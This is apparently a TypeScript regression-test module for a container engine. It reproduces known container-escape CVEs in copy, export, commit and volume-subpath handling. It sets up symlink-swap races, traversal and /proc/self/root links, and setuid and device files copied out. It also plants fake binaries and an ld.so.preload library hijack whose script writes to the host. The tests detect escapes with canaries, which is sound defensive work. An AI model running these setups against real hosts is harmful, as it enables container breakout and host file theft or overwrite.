// The engine and files that go in and out of a container that means harm: cp, export, volumes.

import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { pivotPath } from "../../pivot.ts";
import { whileExchanged } from "../attacker.ts";
import { secret } from "../canary.ts";
import type { EngineWorld } from "../engine.ts";
import { type Outcome, type Row, unless } from "../outcome.ts";

/** A running container whose root is a directory in the attacker's hands. */
function victim(world: EngineWorld, flags: readonly string[] = []) {
  const root = world.directory("root");
  const made = world.ground.command([
    "sh",
    "-c",
    `cd ${root} && mkdir -p bin etc proc sys dev tmp way/sub && cp /bin/busybox bin/ && ln -s busybox bin/sh && ln -s busybox bin/sleep`,
  ]);
  if (made.code !== 0) throw new Error(made.stderr);
  writeFileSync(`${root}/way/sub/file`, "the container's");
  writeFileSync(`${root}/way/file`, "the container's");
  return { root, start: () => world.detached([...flags, "--rootfs", root]) };
}

/** Regular files below, whose text is the host's. */
const stolen = (directory: string): string[] =>
  readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => `${entry.parentPath}/${entry.name}`)
    .filter((path) => readFileSync(path, "latin1").includes(secret));

export const transfer: readonly Row<EngineWorld>[] = [
  {
    ids: ["CVE-2018-15664", "CVE-2019-10152", "CVE-2019-18466"],
    title: "cp goes through a link that was a directory a moment ago",
    tried: "a directory and a link out are exchanged during cp, both ways",
    run: async (world): Promise<Outcome> => {
      const canary = world.canary();
      const { root, start } = victim(world);
      symlinkSync(canary.path, `${root}/other`);
      const local = world.directory("local");
      mkdirSync(`${local}/tree/sub`, { recursive: true });
      writeFileSync(`${local}/tree/file`, "overwritten");
      writeFileSync(`${local}/tree/sub/file`, "overwritten");
      const got = world.directory("got");
      const name = start();
      const cp = (...words: string[]) => world.ground.pivot(["cp", ...words]);
      let copied = 0;
      const rounds = Math.ceil(world.tries / 8);
      const exchanges = await whileExchanged([[`${root}/way`, `${root}/other`]], () => {
        for (let i = 0; i < rounds; i++) {
          const all = [
            cp(`${local}/tree/file`, `${name}:/way/file`),
            cp(`${local}/tree/file`, `${name}:/way/new`),
            cp(`${local}/tree/.`, `${name}:/way`),
            cp(`${name}:/way/file`, `${got}/file-${i}`),
            cp(`${name}:/way/sub/file`, `${got}/sub-${i}`),
            cp("-L", `${name}:/way`, `${got}/way-${i}`),
          ];
          copied += all.filter(({ code }) => code === 0).length;
        }
      });
      world.remove(name);
      return unless(
        [...canary.changes(), ...stolen(got).map((path) => `${path} is the host's`)],
        `${rounds * 6} copies, ${copied} of them done; ${exchanges} exchanges`,
      );
    },
  },
  {
    ids: ["CVE-2026-41568", "CVE-2026-42306"],
    title: "cp makes a mount point, or mounts a volume, where a link leads",
    tried:
      "the directory of a volume is exchanged with a link out during cp; ordinary links go on working",
    run: async (world): Promise<Outcome> => {
      const canary = world.canary();
      const volume = world.directory("volume");
      const { root, start } = victim(world, ["-v", `${volume}:/way/volume`]);
      mkdirSync(`${root}/run`);
      mkdirSync(`${root}/var`);
      symlinkSync("/run", `${root}/var/run`);
      symlinkSync(canary.path, `${root}/other`);
      const local = world.directory("local");
      writeFileSync(`${local}/file`, "overwritten");
      const name = start();
      const before = readFileSync("/proc/self/mountinfo", "utf8");
      const exchanges = await whileExchanged([[`${root}/way`, `${root}/other`]], () => {
        for (let i = 0; i < Math.ceil(world.tries / 4); i++) {
          world.ground.pivot(["cp", `${local}/file`, `${name}:/way/volume/file-${i}`]);
          world.ground.pivot(["cp", `${name}:/way/volume`, `${local}/volume-${i}`]);
        }
      });
      const usual = world.ground.pivot(["cp", `${local}/file`, `${name}:/var/run/file`]);
      const findings = [
        ...canary.changes(),
        ...(readFileSync("/proc/self/mountinfo", "utf8") === before ? [] : ["mounts are left"]),
        ...(usual.code === 0 && existsSync(`${root}/run/file`)
          ? []
          : [`an ordinary link, /var/run to /run, does not work: ${usual.stderr}`]),
      ];
      world.remove(name);
      return unless(findings, `${Math.ceil(world.tries / 4) * 2} copies; ${exchanges} exchanges`);
    },
  },
  {
    ids: ["CVE-2026-41567", "CVE-2019-14271", "CVE-2022-1227"],
    title: "a program or library of the container is run outside of it",
    tried:
      "false xz, unpigz, zstd, tar, ps, nsenter and libraries; cp of packed archives, top, diff, export, commit",
    run: (world): Outcome => {
      const canary = world.canary();
      const { root, start } = victim(world);
      const evil = `#!/bin/sh\necho pwned >>/pwned\necho pwned >>${canary.path}/pwned\n`;
      for (const directory of ["bin", "usr/bin", "sbin", "usr/sbin", "usr/local/bin"]) {
        mkdirSync(`${root}/${directory}`, { recursive: true });
        for (const program of [
          "xz",
          "unpigz",
          "gzip",
          "zstd",
          "bzip2",
          "tar",
          "ps",
          "nsenter",
          "cat",
        ]) {
          writeFileSync(`${root}/${directory}/${program}`, evil, { mode: 0o755 });
        }
      }
      mkdirSync(`${root}/lib`, { recursive: true });
      writeFileSync(`${root}/etc/nsswitch.conf`, "passwd: evil\ngroup: evil\nhosts: evil\n");
      for (const library of ["libnss_evil.so.2", "libc.so.6", "ld-linux-x86-64.so.2"]) {
        writeFileSync(`${root}/lib/${library}`, evil, { mode: 0o755 });
      }
      writeFileSync(`${root}/etc/ld.so.preload`, "/lib/libnss_evil.so.2\n");
      const local = world.directory("local");
      writeFileSync(`${local}/file`, "x");
      const name = start();
      const roots = world.ground.roots().join(" ");
      const findings: string[] = [];
      for (const packer of ["gzip", "xz", "zstd", "bzip2", "cat"]) {
        if (Bun.which(packer) === null) continue;
        const script = `tar -cf - -C ${local} file | ${packer} | ${pivotPath} ${roots} cp - ${name}:/tmp`;
        world.ground.command(["sh", "-c", script]);
      }
      for (const words of [
        ["cp", `${local}/file`, `${name}:/tmp/again`],
        ["cp", "-a", `${name}:/etc`, `${local}/etc`],
        ["top", name],
        ["stats", "--no-stream", name],
        ["diff", name],
        ["verify", name],
        ["export", "-o", `${local}/root.tar`, name],
        ["commit", name, "committed"],
        ["inspect", name],
        ["logs", name],
      ]) {
        world.ground.pivot(words);
      }
      if (existsSync(`${root}/pwned`)) findings.push("a program of the container was run");
      world.remove(name);
      return unless([...canary.changes(), ...findings], "9 programs, 3 libraries; 15 commands");
    },
  },
  {
    ids: ["CVE-2023-0778"],
    title: "an export goes through a link that was a directory a moment ago",
    tried: "a directory and a link out are exchanged during export and commit",
    run: async (world): Promise<Outcome> => {
      const canary = world.canary();
      const { root, start } = victim(world);
      symlinkSync(canary.path, `${root}/other`);
      for (let i = 0; i < 200; i++) writeFileSync(`${root}/way/sub/filling-${i}`, "x");
      const name = start();
      const tar = world.fresh("root.tar");
      const findings: string[] = [];
      const exchanges = await whileExchanged([[`${root}/way`, `${root}/other`]], () => {
        for (let i = 0; i < Math.ceil(world.tries / 4); i++) {
          world.ground.pivot(["export", "-o", tar, name]);
          if (existsSync(tar) && readFileSync(tar, "latin1").includes(secret)) {
            findings.push("the export has a file of the host");
          }
        }
      });
      world.remove(name);
      return unless(
        [...canary.changes(), ...findings],
        `${Math.ceil(world.tries / 4)} exports; ${exchanges} exchanges`,
      );
    },
  },
  {
    ids: ["CVE-2024-42472", "CVE-2017-1002101"],
    title: "a part of a volume is a link that a container has made",
    tried: "volume-subpath at links out, up, and exchanged meanwhile",
    run: async (world): Promise<Outcome> => {
      const canary = world.canary();
      const findings: string[] = [];
      world.ground.pivot(["volume", "create", "shared"]);
      const data = `${world.ground.root}/volumes/shared/_data`;
      mkdirSync(`${data}/way`, { recursive: true });
      writeFileSync(`${data}/way/file`, "the volume's");
      for (const [name, to] of [
        ["out", canary.path],
        ["up", `../../../../../../../../../..${canary.path}`],
        ["magic", `/proc/self/root${canary.path}`],
        ["other", canary.path],
      ] as const) {
        symlinkSync(to, `${data}/${name}`);
      }
      const look = (subpath: string) => {
        const mount = `type=volume,source=shared,target=/x,volume-subpath=${subpath}`;
        const script = "cat /x/file /x; echo >/x/new";
        const words = ["--mount", mount, "busybox", "sh", "-c", script];
        const { stdout } = world.ground.run(words);
        if (stdout.includes(secret)) findings.push(`the part ${subpath} is the host's`);
      };
      for (const subpath of ["out", "out/deep", "up", "up/file", "magic", "magic/deep"])
        look(subpath);
      const exchanges = await whileExchanged([[`${data}/way`, `${data}/other`]], () => {
        for (let i = 0; i < world.tries; i++) look("way");
      });
      return unless(
        [...canary.changes(), ...findings],
        `${world.tries + 6} starts; ${exchanges} exchanges`,
      );
    },
  },
  {
    ids: ["CVE-2021-41089"],
    title: "cp changes the mode of what is on the host",
    tried: "set-user-id programs, devices and owners come out of a container without -a",
    run: (world): Outcome => {
      const { root, start } = victim(world);
      const made = world.ground.command([
        "sh",
        "-c",
        `cd ${root}/way && cp /bin/busybox suid && chmod 6777 suid && mknod disk b 8 0 && chown 4242:4242 file`,
      ]);
      if (made.code !== 0) throw new Error(made.stderr);
      const got = world.directory("got");
      const before = lstatSync(got).mode;
      const name = start();
      world.ground.pivot(["cp", `${name}:/way/.`, got]);
      world.remove(name);
      const findings = readdirSync(got, { recursive: true }).flatMap((each) => {
        const { mode, uid } = lstatSync(`${got}/${String(each)}`);
        return [
          ...((mode & 0o6000) === 0 ? [] : [`${String(each)} is set-user-id`]),
          ...((mode & 0o170000) === 0o60000 ? [`${String(each)} is a device`] : []),
          ...(uid === 0 ? [] : [`${String(each)} belongs to ${uid}`]),
        ];
      });
      if (lstatSync(got).mode !== before) findings.push("the directory's mode has changed");
      if (!existsSync(`${got}/suid`)) findings.push("nothing was copied");
      return unless(findings, "no set-id bit, no device, the caller's owner");
    },
  },
];
